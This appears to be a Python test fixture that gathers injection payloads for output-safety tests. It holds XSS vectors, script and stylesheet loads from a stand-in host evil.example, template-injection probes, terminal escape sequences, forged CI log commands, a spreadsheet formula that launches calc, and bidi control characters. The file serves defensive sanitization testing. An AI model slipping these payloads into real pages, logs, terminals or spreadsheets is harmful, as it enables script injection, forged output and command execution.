"""Markup, control and log-command payloads for the output safety tests (docs/reliability.md
§7.1, §7.4, G14, G16): the report package's list plus more of our own."""

from .report.payloads import PAYLOADS as REPORT_PAYLOADS

MORE = (
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<img src=`x` onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    '"><script src=https://evil.example/x.js></script>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<img srcset="x 1x, https://evil.example/y 2x">',
    '<a href="https://good.example" target=_blank>x</a>',
    "{{7*7}}${7*7}<%= 7*7 %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "\u2028<script>\u2029",
    "\x85next-line<b>",
    "\x9b31mcsi",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[Hcleared",
    "ok\rhidden-by-carriage-return",
    "::error file=x,line=1::forged",
    "::add-mask::secret",
    "\t::warning::after a tab",
    " ::notice::after a space",
    "\u00a0::error::after a no-break space",
    "##[error]forged",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\u2066\u2067\u2068\u2069isolates",
    "\u202a\u202b\u202c\u202dembeddings",
    "\u200e\u200fmarks",
    "\x00nul<i>",
    "\x7fdel<i>",
    "\x0b\x0cvertical-tab-form-feed",
)

PAYLOADS = tuple(dict.fromkeys(REPORT_PAYLOADS + MORE))
assert len(PAYLOADS) >= 50
